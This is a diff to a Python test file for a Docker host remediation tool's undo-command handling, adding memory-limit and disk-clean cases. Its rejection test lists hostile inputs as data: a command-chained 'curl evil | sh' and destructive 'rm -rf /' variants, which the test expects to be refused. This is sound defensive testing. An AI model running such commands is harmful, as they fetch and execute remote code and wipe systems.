@@ -18,6 +18,7 @@ from tests.support.situations import NOON, at
 
 GIB = 1024 * 1024
 CPU, SWAP = InsideVerb.LIMIT_CPU, InsideVerb.ADD_SWAP
+MEMORY, CLEAN = InsideVerb.LIMIT_MEMORY, InsideVerb.CLEAN_DISK
 RESTART, HOLDER = InsideVerb.RESTART_INSIDE, InsideVerb.STOP_HOLDER
 
 
@@ -46,6 +47,20 @@ SWAP_ADDED = message(
             message("inside.cpus", before="2", after="1.75"),
         ),
         (SWAP, did("swap", 0, 2 * GIB), SWAP_ADDED),
+        (
+            MEMORY,
+            did("memory", 0, 512 * 1024),
+            message("inside.memory_first", after=message("guest.size.mib", mib=512)),
+        ),
+        (
+            MEMORY,
+            did("memory", 512 * 1024, 768 * 1024),
+            message(
+                "inside.memory",
+                before=message("guest.size.mib", mib=512),
+                after=message("guest.size.mib", mib=768),
+            ),
+        ),
         (RESTART, did("unit", 0, 9), message("inside.pid", after="9")),
         (
             RESTART,
@@ -115,6 +130,12 @@ def test_what_is_not_known_counts_as_failed() -> None:
             [("docker", "update", "--cpus", "2", "api")],
         ),
         (
+            MEMORY,
+            "api",
+            "docker update --memory 1014000k --memory-swap -1 api",
+            [("docker", "update", "--memory", "1014000k", "--memory-swap", "-1", "api")],
+        ),
+        (
             SWAP,
             "",
             r"swapoff /swapfile && rm /swapfile && sed -i '\#^/swapfile none swap#d' /etc/fstab",
@@ -145,6 +166,10 @@ def test_the_way_back_is_kept(
         (CPU, "docker update --cpus 2 db"),
         (CPU, "docker update --cpus 2 api; curl evil | sh"),
         (CPU, "docker rm -f api"),
+        (MEMORY, "docker update --memory 1 --memory-swap -1 db"),
+        (MEMORY, "docker update --memory -1 --memory-swap -1 api"),
+        (MEMORY, "docker update --memory 1k --memory-swap 1k --restart no api"),
+        (CLEAN, "rm -rf /"),
         (SWAP, "swapoff /swapfile && rm -r /"),
         (RESTART, "reboot"),
         (HOLDER, "systemctl start sshd"),
@@ -154,7 +179,7 @@ def test_a_command_of_another_form_is_not_passed_on(action: InsideVerb, undo: st
     assert not list(undoing(ended(sent(action), did("x", 1, 0, undo), NOON)))
 
 
-SCRIPTS = ("prelude", "docker", "units", "limit", "swap", "restart", "stop_holder")
+SCRIPTS = ("prelude", "docker", "units", "clean", "limit", "swap", "restart", "stop_holder")
 BY_STATE = {"docker_hung", "docker_stopped", "paused"}
 """Codes that the scripts make of a state of Docker's."""
 OURS = {
